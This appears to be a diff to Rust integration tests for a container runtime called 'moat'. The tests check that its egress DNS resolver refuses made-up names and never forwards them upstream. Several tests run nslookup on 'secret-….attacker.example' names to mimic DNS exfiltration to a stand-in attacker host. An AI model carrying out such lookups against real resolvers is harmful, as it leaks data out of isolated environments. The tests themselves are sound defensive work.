@@ -85,8 +85,46 @@ fn lookup(runtime: &str, network: &str, upstream: Ipv4Addr, name: &str) -> Strin
 /// nothing of the test is left afterwards.
 #[test]
 fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
-    let rt = egress_dns_runtime();
+    let rt = registered_egress_dns_runtime();
     let me = std::process::id();
+    std::fs::write(POLICY, format!("[egress]\nallow = [\"{SUBNET}\"]\n")).unwrap();
+    let (net, gw) = test_network(&format!("moat-egdns-{me}"));
+    let upstream = Server::dns(
+        Path::new("/proc/self/ns/net"),
+        SocketAddr::new(gw.into(), 53),
+        ANSWER,
+    );
+
+    let control = format!("control-{me}.attacker.example");
+    let out = lookup("runc", &net.0, gw, &control);
+    assert!(
+        upstream.asked(&control),
+        "under runc the upstream never saw {control}: the test cannot show the channel\n{out}"
+    );
+
+    let secret = format!("secret-{me}.attacker.example");
+    let out = lookup(&rt, &net.0, gw, &secret);
+    assert!(out.contains("NS="), "the container did not run:\n{out}");
+    assert!(
+        !out.contains("NS=0"),
+        "the lookup succeeded under {rt}:\n{out}"
+    );
+    assert!(!out.contains(&ANSWER.to_string()), "{out}");
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(
+        !upstream.asked(&secret),
+        "the made-up name reached the upstream under {rt}:\n{out}"
+    );
+
+    drop(upstream);
+    drop(net);
+    let _ = std::fs::remove_file(POLICY);
+    assert_network_gone(&format!("moat-egdns-{me}"));
+}
+
+/// The runtime registered for these tests, asserted to read [`POLICY`].
+fn registered_egress_dns_runtime() -> String {
+    let rt = egress_dns_runtime();
     let info = docker(&["info", "--format", "{{json .Runtimes}}"]);
     let registered = info.ok()
         && serde_json::from_str::<serde_json::Value>(&info.stdout)
@@ -101,8 +139,12 @@ fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
         "runtime {rt} is not registered with --policy {POLICY} (see this file's header): {}",
         info.describe()
     );
-    std::fs::write(POLICY, format!("[egress]\nallow = [\"{SUBNET}\"]\n")).unwrap();
-    let net = Network(format!("moat-egdns-{me}"));
+    rt
+}
+
+/// A docker network of the test's on [`SUBNET`] and its IPv4 gateway.
+fn test_network(name: &str) -> (Network, Ipv4Addr) {
+    let net = Network(name.to_string());
     let created = docker(&[
         "network",
         "create",
@@ -134,38 +176,189 @@ fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
         .trim()
         .parse()
         .unwrap_or_else(|_| panic!("no IPv4 gateway: {:?}", inspect.stdout));
+    (net, gw)
+}
+
+/// Nothing is left of the test's docker network `name`.
+fn assert_network_gone(name: &str) {
+    let left = docker(&["ps", "-aq", "--filter", &format!("network={name}")]).stdout;
+    assert!(left.trim().is_empty(), "containers left: {left}");
+    let inspect = docker(&["network", "inspect", name]);
+    assert!(!inspect.ok(), "the test's docker network is still there");
+}
+
+/// T18, issue 18 item 2: with name entries, a moat container's DNS goes
+/// to moat's resolver, `127.0.0.11` included. The names of the other
+/// containers on its docker network (name and `--network-alias`) are
+/// answered from dockerd's own record of the network, a made-up name is
+/// REFUSED, and neither reaches the upstream: moat never forwards to the
+/// engine's resolver, which would send the made-up name on.
+#[test]
+fn docker_container_names_resolve_through_moat_and_made_up_names_do_not_leave() {
+    let rt = registered_egress_dns_runtime();
+    let me = std::process::id();
+    let (net, gw) = test_network(&format!("moat-egnames-{me}"));
+    std::fs::write(
+        POLICY,
+        format!(
+            "[egress]\nallow = [\"{SUBNET}\", \"svc.moat.test tcp 8080\"]\nresolvers = [\"{gw}:53\"]\n"
+        ),
+    )
+    .unwrap();
     let upstream = Server::dns(
         Path::new("/proc/self/ns/net"),
         SocketAddr::new(gw.into(), 53),
         ANSWER,
     );
-
-    let control = format!("control-{me}.attacker.example");
-    let out = lookup("runc", &net.0, gw, &control);
-    assert!(
-        upstream.asked(&control),
-        "under runc the upstream never saw {control}: the test cannot show the channel\n{out}"
-    );
+    let db = format!("moat-egdb-{me}");
+    let started = docker(&[
+        "run",
+        "-d",
+        "--name",
+        &db,
+        "--network",
+        &net.0,
+        "--network-alias",
+        "pg",
+        IMAGE,
+        "sleep",
+        "300",
+    ]);
+    assert!(started.ok(), "docker run {db}: {}", started.describe());
+    let ip = docker(&[
+        "inspect",
+        "--format",
+        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
+        &db,
+    ]);
+    let ip: Ipv4Addr = ip
+        .stdout
+        .trim()
+        .parse()
+        .unwrap_or_else(|_| panic!("no address for {db}: {}", ip.describe()));
 
     let secret = format!("secret-{me}.attacker.example");
-    let out = lookup(&rt, &net.0, gw, &secret);
-    assert!(out.contains("NS="), "the container did not run:\n{out}");
-    assert!(
-        !out.contains("NS=0"),
-        "the lookup succeeded under {rt}:\n{out}"
+    let script = format!(
+        "timeout 10 nslookup {db} 2>&1; echo NS1=$?; timeout 10 nslookup pg 2>&1; echo NS2=$?; timeout 10 nslookup {secret} 2>&1; echo NS3=$?"
     );
+    let out = docker(&[
+        "run",
+        "--rm",
+        "--runtime",
+        &rt,
+        "--network",
+        &net.0,
+        "--dns",
+        &gw.to_string(),
+        IMAGE,
+        "sh",
+        "-c",
+        &script,
+    ])
+    .combined();
+    let want = format!("Address: {ip}");
+    let answers = out.lines().filter(|l| l.trim() == want).count();
+    assert!(
+        out.contains("NS1=0") && out.contains("NS2=0") && answers >= 2,
+        "the neighbour's name and alias did not resolve to {ip} under {rt}:\n{out}"
+    );
+    assert!(!out.contains("NS3=0"), "the made-up name resolved:\n{out}");
     assert!(!out.contains(&ANSWER.to_string()), "{out}");
     std::thread::sleep(Duration::from_millis(300));
+    for name in [secret.as_str(), db.as_str(), "pg"] {
+        assert!(
+            !upstream.asked(name),
+            "{name} reached the upstream under {rt}:\n{out}"
+        );
+    }
+
+    drop(upstream);
+    drop(net);
+    let _ = std::fs::remove_file(POLICY);
+    assert_network_gone(&format!("moat-egnames-{me}"));
+}
+
+/// T18, issue 18 item 3 with docker: a moat container joining another's
+/// network namespace (`--network container:X`) with the same policy and
+/// name entries resolves through the one serving of that namespace (an
+/// allowed name answered, a made-up one refused and never upstream), and
+/// X is still served after the joiner is gone.
+#[test]
+fn docker_network_container_pair_shares_the_resolver() {
+    let rt = registered_egress_dns_runtime();
+    let me = std::process::id();
+    let (net, gw) = test_network(&format!("moat-egpair-{me}"));
+    std::fs::write(
+        POLICY,
+        format!(
+            "[egress]\nallow = [\"{SUBNET}\", \"svc.moat.test tcp 8080\"]\nresolvers = [\"{gw}:53\"]\nprivate_answers = [\"svc.moat.test {ANSWER}/32\"]\n"
+        ),
+    )
+    .unwrap();
+    let upstream = Server::dns(
+        Path::new("/proc/self/ns/net"),
+        SocketAddr::new(gw.into(), 53),
+        ANSWER,
+    );
+    let x = format!("moat-egx-{me}");
+    let started = docker(&[
+        "run",
+        "-d",
+        "--name",
+        &x,
+        "--runtime",
+        &rt,
+        "--network",
+        &net.0,
+        "--dns",
+        &gw.to_string(),
+        IMAGE,
+        "sleep",
+        "300",
+    ]);
+    assert!(started.ok(), "docker run {x}: {}", started.describe());
+    let secret = format!("secret-{me}.attacker.example");
+    let script = format!(
+        "timeout 10 nslookup svc.moat.test 2>&1; echo NS1=$?; timeout 10 nslookup {secret} 2>&1; echo NS2=$?"
+    );
+    let out = docker(&[
+        "run",
+        "--rm",
+        "--runtime",
+        &rt,
+        "--network",
+        &format!("container:{x}"),
+        IMAGE,
+        "sh",
+        "-c",
+        &script,
+    ])
+    .combined();
+    let want = format!("Address: {ANSWER}");
     assert!(
-        !upstream.asked(&secret),
-        "the made-up name reached the upstream under {rt}:\n{out}"
+        out.contains("NS1=0") && out.lines().any(|l| l.trim() == want),
+        "the joiner's allowed name did not resolve:\n{out}"
+    );
+    assert!(!out.contains("NS2=0"), "the made-up name resolved:\n{out}");
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(upstream.asked("svc.moat.test"), "{out}");
+    assert!(!upstream.asked(&secret), "the made-up name left:\n{out}");
+    // X is still served after the joiner's delete.
+    let again = docker(&[
+        "exec",
+        &x,
+        "sh",
+        "-c",
+        "timeout 10 nslookup svc.moat.test 2>&1; echo NS=$?",
+    ]);
+    assert!(
+        again.stdout.contains("NS=0") && again.stdout.lines().any(|l| l.trim() == want),
+        "{x} lost its resolver: {}",
+        again.describe()
     );
 
     drop(upstream);
     drop(net);
     let _ = std::fs::remove_file(POLICY);
-    let left = docker(&["ps", "-aq", "--filter", &format!("network=moat-egdns-{me}")]).stdout;
-    assert!(left.trim().is_empty(), "containers left: {left}");
-    let inspect = docker(&["network", "inspect", &format!("moat-egdns-{me}")]);
-    assert!(!inspect.ok(), "the test's docker network is still there");
+    assert_network_gone(&format!("moat-egpair-{me}"));
 }
